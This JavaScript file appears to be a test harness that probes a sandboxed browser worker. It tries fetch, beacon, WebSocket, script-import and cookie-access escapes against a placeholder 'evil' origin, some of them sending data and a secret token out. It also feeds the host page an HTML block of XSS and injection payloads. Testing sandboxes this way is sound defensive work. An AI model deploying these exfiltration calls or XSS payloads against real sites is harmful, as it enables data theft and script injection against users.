// Tries each way out of a worker that a browser knows, and each way in which what it shows could do something.
const EVIL = "ORIGIN-OF-EVIL", PORTAL = "ORIGIN-OF-PORTAL", TRAP = "TRAP-PORT";
const told = {};
const secret = () => encodeURIComponent("SECRET-" + Math.random());
const tried = async (name, act) => {
  try {
    told[name] = `DONE ${await Promise.race([act(), new Promise((_, no) => setTimeout(() => no(new Error("time")), 3000))])}`;
  } catch (error) {
    told[name] = String(error?.name ?? error);
  }
};
const blob = (code) => URL.createObjectURL(new Blob([code], { type: "text/javascript" }));
const asked = (of) => new Promise((yes, no) => { of.onopen = of.onload = () => yes("open"); of.onerror = () => no(new Error("refused")); });
const nested = (url) => new Promise((yes, no) => {
  const one = new Worker(url);
  one.onmessage = ({ data }) => (data === "refused" ? no(new Error("refused")) : yes(data));
  one.onerror = () => no(new Error("refused"));
});
const asking = `fetch("${EVIL}/nested").then(() => postMessage("sent"), () => postMessage("refused"))`;

const all = async ({ records }) => {
  const data = new TextDecoder().decode(records[0].bytes).slice(0, 100);
  await tried("fetch", () => fetch(`${EVIL}/fetch?${secret()}`, { method: "POST", body: data, mode: "no-cors" }));
  await tried("fetch keepalive", () => fetch(`${EVIL}/keepalive`, { keepalive: true, mode: "no-cors" }));
  await tried("fetch portal", () => fetch(`${PORTAL}/me`, { credentials: "include" }));
  await tried("fetch portal no-cors", () => fetch(`${PORTAL}/me`, { credentials: "include", mode: "no-cors" }));
  await tried("fetch data", () => fetch("data:text/plain,x"));
  await tried("XMLHttpRequest", () => { const one = new XMLHttpRequest(); one.open("GET", `${EVIL}/xhr`); const done = asked(one); one.send(); return done; });
  await tried("XMLHttpRequest sync", () => { const one = new XMLHttpRequest(); one.open("GET", `${EVIL}/xhr`, false); one.send(); return one.status; });
  await tried("WebSocket", () => asked(new WebSocket(`${EVIL.replace("http", "ws")}/ws`)));
  await tried("WebSocketStream", async () => (await new WebSocketStream(`${EVIL.replace("http", "ws")}/wss`).opened));
  await tried("EventSource", () => asked(new EventSource(`${EVIL}/events`)));
  await tried("WebTransport", () => new WebTransport(`https://evil.test:${TRAP}/`).ready);
  await tried("importScripts", () => importScripts(`${EVIL}/script`));
  await tried("importScripts blob", () => importScripts(blob("1")));
  await tried("import", () => import(`${EVIL}/module`));
  await tried("import blob", () => import(blob("export default 1")));
  await tried("eval", () => eval("1"));
  await tried("Function", () => new Function("return 1")());
  await tried("timer of text", () => new Promise((yes) => { self.ran = yes; setTimeout("ran('text ran')", 0); }));
  await tried("worker of blob", () => nested(blob(asking)));
  await tried("worker of data", () => nested(`data:text/javascript,${asking}`));
  await tried("worker of elsewhere", () => nested(`${EVIL}/worker`));
  await tried("worker of the portal", () => nested(`${PORTAL}/static/portal.js`));
  await tried("FontFace", () => new FontFace("x", `url(${EVIL}/font)`).load());
  await tried("indexedDB", () => new Promise((yes, no) => { const one = indexedDB.open("x"); one.onsuccess = () => yes("open"); one.onerror = () => no(one.error); }));
  await tried("caches", () => caches.open("x"));
  await tried("files", () => navigator.storage.getDirectory());
  await tried("cookieStore", () => cookieStore.getAll());
  await tried("sendBeacon", () => navigator.sendBeacon(`${EVIL}/beacon`, data));
  await tried("RTCPeerConnection", () => new RTCPeerConnection({ iceServers: [{ urls: `stun:evil.test:${TRAP}` }] }).createOffer());
  await tried("service worker", () => navigator.serviceWorker.register(blob("1")));
  await tried("Notification", () => new Promise((yes, no) => { const one = new Notification("x"); one.onshow = () => yes("shown"); one.onerror = () => no(new Error("denied")); }));
  await tried("alert", () => alert("x"));
  await tried("open", () => open(`${EVIL}/open`));
  await tried("location", () => { location = `${EVIL}/location`; if (String(location).startsWith(EVIL)) return "went"; throw new Error("stayed"); });
  await tried("top", () => top.location.href);
  await tried("parent", () => parent.document.cookie);
  await tried("document", () => document.cookie);
  await tried("localStorage", () => localStorage.setItem("x", "y"));
  await tried("BroadcastChannel", () => { new BroadcastChannel("used").postMessage("x"); throw new Error("nobody of the portal hears it"); });
  postMessage({ type: "show", html: SHOWN });
  postMessage({ type: "show", at: "nowhere", html: "x" });
  postMessage({ type: "show", html: 7 });
  postMessage({ type: "canvas", id: "none" });
  postMessage("failed");
  postMessage({ type: "give", told: {} });
  const lines = Object.entries(told).map(([name, what]) => `${name}: ${what}`);
  postMessage({ type: "show", at: "told", html: lines.map((one) => `<li>${one.replace(/[<&]/g, "")}</li>`).join("") });
  postMessage({ type: "show", at: "over", html: "OVER" });
};
const SHOWN = `
<ul id="told"></ul><p id="over"></p>
<script>alert(1); fetch("${EVIL}/markup")</` + `script>
<img src="${EVIL}/img" onerror="alert(2)"><img src=x onerror="alert(3)" srcset="${EVIL}/srcset 2x">
<svg><script href="${EVIL}/svgscript"></` + `script><image href="${EVIL}/svgimage"/><use href="${EVIL}/use#x"/><a href="${EVIL}/a"><text>x</text></a>
<rect fill="url(${EVIL}/fill#x)" onload="alert(4)" style="fill:url(${EVIL}/style)"/><foreignObject><iframe src="${EVIL}/foreign"></iframe></foreignObject>
<animate attributeName="href" to="${EVIL}/animate"/><set attributeName="onmouseover" to="alert(5)"/></svg>
<iframe src="${EVIL}/iframe"></iframe><iframe srcdoc="<script>parent.alert(6)</` + `script>"></iframe><object data="${EVIL}/object"></object><embed src="${EVIL}/embed">
<link rel="dns-prefetch" href="//dns.evil.test"><link rel="preconnect" href="http://evil.test:${TRAP}"><link rel="stylesheet" href="${EVIL}/css">
<link rel="prefetch" href="${EVIL}/prefetch"><link rel="prerender" href="${EVIL}/prerender"><link rel="manifest" href="${EVIL}/manifest">
<meta http-equiv="refresh" content="0;url=${EVIL}/refresh"><base href="${EVIL}/"><form action="${EVIL}/form" method="post" id="f"><input name="childNodes"><button id="submit">Go</button></form>
<button data-on="x" formaction="${EVIL}/formaction" form="f" type="submit" onclick="alert(7)" id="press">Press</button>
<a href="${EVIL}/link" ping="${EVIL}/ping" target="_top" id="link">link</a><a href="javascript:alert(8)">x</a><area href="${EVIL}/area"><audio src="${EVIL}/audio" autoplay></audio>
<video poster="${EVIL}/poster"><source src="${EVIL}/video"><track src="${EVIL}/track"></video><input type="image" src="${EVIL}/inputimage"><input type="file"><input type="password">
<details open ontoggle="alert(9)"><summary>s</summary></details><p style="background:url(${EVIL}/p)" background="${EVIL}/bg" onfocus="alert(10)" tabindex="1" autofocus>p</p>
<body background="${EVIL}/body" onload="alert(11)"><template><img src="${EVIL}/template"></template><math><mtext><table><mglyph><style><img src=${EVIL}/mxss onerror=alert(12)></style></table></math>
<noscript><img src="${EVIL}/noscript"></noscript><portal src="${EVIL}/portal"></portal><fencedframe></fencedframe><x-own is="x-own">kept out</x-own><canvas width="100000" height="100000"></canvas>`;
addEventListener("message", ({ data }) => { if (data.type === "begin") all(data); });
